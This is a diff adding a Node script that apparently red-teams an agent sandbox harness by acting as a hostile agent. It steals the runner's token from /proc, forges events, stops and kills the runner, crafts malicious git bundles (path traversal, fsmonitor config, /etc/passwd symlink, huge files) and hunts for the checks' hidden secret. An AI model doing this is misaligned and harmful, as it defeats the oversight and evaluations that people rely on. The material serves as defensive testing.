@@ -1,0 +1,152 @@
+// What an agent might write and run in its sandbox: `node hostile-agent.mjs <deed>`.
+import { execFileSync } from "node:child_process";
+import { lstatSync, mkdirSync, readdirSync, readFileSync, truncateSync, writeFileSync } from "node:fs";
+import { request } from "node:http";
+
+const socketPath = "/run/slipway/run.sock";
+const [deed] = process.argv.slice(2);
+
+const deeds = {
+  /** Offers bundles of its own making, in the runner's name. */
+  async offer() {
+    const bundles = [
+      withFile("100644", "../evil", blob("evil")),
+      withFile("40000", ".git", tree([["100644", "config", blob("[core]\n\tfsmonitor = evil\n")]])),
+      withFile("120000", "way-out", blob("/etc/passwd")),
+      withFile("100644", "zeros", blob(Buffer.alloc(64 * 1024 ** 2 + 1))),
+      endless,
+    ];
+    const { pid } = runner();
+    // It says nothing more until these are told.
+    process.kill(pid, "SIGSTOP");
+    const { next } = await call("POST", "/run/hello", { version: 1, instance: "hostile" });
+    mkdirSync("/var/tmp/slipway-offers", { recursive: true });
+    const events = bundles.map((write, index) => {
+      const number = 11 + index;
+      const commit = write(`/var/tmp/slipway-offers/${number}.bundle`);
+      const offered = { type: "offered", number, commit, tree: commit, main: head(), changed: 1 };
+      return { sequence: next + index, at: 0, event: { ...offered, tests: { changed: [], deleted: [] } } };
+    });
+    await call("POST", "/run/events", { events });
+    process.kill(pid, "SIGCONT");
+  },
+
+  /** Ends the runner each time that it comes back. */
+  async kill() {
+    for (;;) {
+      const found = runner();
+      if (found !== undefined) process.kill(found.pid, "SIGKILL");
+      await new Promise((resolve) => setTimeout(resolve, 20));
+    }
+  },
+
+  /** Looks for what only the checks say, in all that it can read or ask. */
+  async hunt() {
+    const needle = ["needle", "77"].join("-");
+    const found = [];
+    const look = (path) => {
+      if (attempt(() => readFileSync(path).includes(needle))) found.push(path);
+    };
+    const walk = (directory) => {
+      for (const name of attempt(() => readdirSync(directory)) ?? []) {
+        const path = `${directory}/${name}`;
+        const stat = lstatSync(path, { throwIfNoEntry: false });
+        if (stat?.isDirectory()) walk(path);
+        else if (stat?.isFile() && stat.size < 10 ** 8) look(path);
+      }
+    };
+    for (const top of readdirSync("/")) if (!["dev", "proc", "sys", "usr"].includes(top)) walk(`/${top}`);
+    walk("/dev/shm");
+    for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
+      for (const file of ["cmdline", "environ"]) look(`/proc/${pid}/${file}`);
+    }
+    const asked = [
+      ["POST", "/run/hello", { version: 1, instance: "hostile" }],
+      ["GET", "/run/control?after=0"],
+    ];
+    for (const [method, path, body] of asked) {
+      const answer = await call(method, path, body);
+      if (JSON.stringify(answer).includes(needle)) found.push(path);
+    }
+    console.log(`found: ${found.join(" ") || "nothing"}`);
+  },
+};
+
+await deeds[deed]();
+
+function git(args, input) {
+  return execFileSync("git", args, { input, maxBuffer: 10 ** 9 });
+}
+
+function head() {
+  return git(["rev-parse", "HEAD"]).toString().trim();
+}
+
+function object(type, content) {
+  return git(["hash-object", "-t", type, "--literally", "-w", "--stdin"], content).toString().trim();
+}
+
+function blob(content) {
+  return object("blob", content);
+}
+
+function tree(entries) {
+  const bytes = entries.map(([mode, name, id]) => [Buffer.from(`${mode} ${name}\0`), Buffer.from(id, "hex")]);
+  return object("tree", Buffer.concat(bytes.flat()));
+}
+
+/** Writes a bundle of one commit with nothing but this entry, whatever git itself thinks of its name. */
+function withFile(mode, name, id) {
+  return (path) => {
+    const root = tree([[mode, name, id]]);
+    const who = "Mallory <m@example.com> 1800000000 +0000";
+    const commit = object("commit", `tree ${root}\nparent ${head()}\nauthor ${who}\ncommitter ${who}\n\nwork\n`);
+    const pack = git(["pack-objects", "--stdout", "-q", "--revs"], `${commit}\n^${head()}\n`);
+    writeFileSync(path, Buffer.concat([header(commit), pack]));
+    return commit;
+  };
+}
+
+function header(commit) {
+  const branch = git(["symbolic-ref", "HEAD"]).toString().trim();
+  return Buffer.from(`# v2 git bundle\n-${head()} \n${commit} ${branch}\n\n`);
+}
+
+/** Of 10 GB. */
+function endless(path) {
+  writeFileSync(path, Buffer.concat([header(head()), Buffer.from("PACK\0\0\0\x02\0\0\0\x01")]));
+  truncateSync(path, 10 * 1024 ** 3);
+  return head();
+}
+
+function runner() {
+  for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
+    const isIt = attempt(() => readFileSync(`/proc/${pid}/cmdline`, "utf8").includes("/opt/runner/runner.mjs\0"));
+    const environment = isIt && attempt(() => readFileSync(`/proc/${pid}/environ`, "utf8"));
+    const token = environment && /SLIPWAY_RUN_TOKEN=([^\0]*)/.exec(environment)?.[1];
+    if (token) return { pid: Number(pid), token };
+  }
+  return undefined;
+}
+
+function call(method, path, body) {
+  const headers = { authorization: `Bearer ${runner()?.token}`, "content-type": "application/json" };
+  const signal = AbortSignal.timeout(2000);
+  return new Promise((resolve) => {
+    const sent = request({ socketPath, method, path, headers, signal }, async (response) => {
+      const chunks = await Array.fromAsync(response).catch(() => []);
+      const text = Buffer.concat(chunks).toString();
+      resolve(attempt(() => JSON.parse(text)) ?? text);
+    });
+    sent.on("error", (error) => resolve(error.message));
+    sent.end(JSON.stringify(body));
+  });
+}
+
+function attempt(work) {
+  try {
+    return work();
+  } catch {
+    return undefined;
+  }
+}
